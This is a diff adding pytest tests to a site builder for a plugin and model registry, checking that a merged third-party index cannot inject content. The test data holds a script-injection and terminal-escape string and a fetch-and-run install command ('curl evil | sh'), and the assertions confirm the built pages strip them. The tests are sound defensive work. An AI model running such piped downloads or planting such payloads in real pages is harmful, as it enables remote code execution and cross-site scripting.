@@ -100,3 +100,50 @@ def test_a_site_is_replaced_and_other_files_are_not(own_home, tmp_path, capsys):
     with pytest.raises(SiteError, match="not a folder"):
         build(mine / "thesis.txt")
     assert sorted(path.name for path in tmp_path.iterdir()) == ["mine", "site"]
+
+
+HOSTILE = '"><script>alert(1)</script>\x1b[31m'
+
+
+def test_sites_are_merged_as_data(own_home, tmp_path, capsys):
+    """Packages that are not installed are told on; those that are, nobody else can tell of."""
+    theirs = {
+        "schema": 1,
+        "packages": [
+            {"distribution": "acme", "summary": HOSTILE, "install": "curl evil | sh"},
+            {"distribution": "hub-detection", "summary": "taken over"},
+        ],
+        "models": [
+            {"name": "net", "plugin": "acme", "task": "image-classification", "measured": HOSTILE},
+            {"name": "no_task", "plugin": "acme"},
+            {"name": "net", "plugin": "hub-detection", "task": "object-detection"},
+        ],
+        "weights": [
+            {"name": "Net_Weights.V1", "plugin": "acme", "model": "net", "digest": HOSTILE},
+        ],
+    }
+    (tmp_path / "theirs" / "api" / "v1").mkdir(parents=True)
+    (tmp_path / "theirs" / "api" / "v1" / "index.json").write_text(json.dumps(theirs), "utf-8")
+    arguments = ["--no-docs", "--merge", str(tmp_path / "theirs"), "-o", str(tmp_path / "site")]
+    assert main(["site", "build", *arguments]) == 0
+    capsys.readouterr()
+    index = json.loads((tmp_path / "site/api/v1/index.json").read_text("utf-8"))
+    jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text("utf-8"))).validate(index)
+    assert {"name": "Net_Weights.V1", "plugin": "acme", "model": "net"} in index["weights"]
+    assert [row["name"] for row in index["models"] if row["plugin"] == "acme"] == ["net"]
+    assert not any(p["summary"] == "taken over" for p in index["packages"])
+    assert not any(r["name"] == "net" and r["plugin"] != "acme" for r in index["models"])
+    assert main(["search", "net", "--index", str(tmp_path / "site"), "--json"]) == 0
+    [found] = json.loads(capsys.readouterr().out)
+    assert (found["distribution"], found["install"]) == ("acme", "pip install acme")
+    page = (tmp_path / "site/packages/index.html").read_text("utf-8")
+    assert "pip install acme" in page
+    assert "curl" not in page
+    assert "<script>alert" not in page
+    assert str(tmp_path) not in page  # where they were read is nobody's business
+
+
+def test_a_site_that_cannot_be_merged_leaves_none(own_home, tmp_path, capsys):
+    assert main(["site", "build", "--merge", str(tmp_path), "-o", str(tmp_path / "site")]) == 1
+    assert "cannot be read" in capsys.readouterr().err
+    assert list(tmp_path.iterdir()) == []
